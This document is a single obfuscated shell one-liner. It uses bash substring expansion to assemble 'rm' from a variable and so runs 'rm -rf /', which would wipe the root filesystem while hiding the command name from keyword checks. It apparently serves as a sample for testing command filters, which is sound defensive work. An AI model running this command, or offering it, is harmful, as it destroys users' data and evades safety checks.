x=xrmx; ${x:1:2} -rf /
